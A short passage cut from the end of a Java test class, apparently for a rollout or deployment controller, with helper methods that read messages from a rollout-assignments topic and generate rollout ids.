                                        chunk.controllerIds().get(n)))
                                .isNull();
                    }
                });
        return actions;
    }

    private static List<Object> told(String rollout) {
        return heard(Topic.ROLLOUT_ASSIGNMENTS, rollout);
    }

    private static String rollout() {
        return "ro-" + id();
    }
}
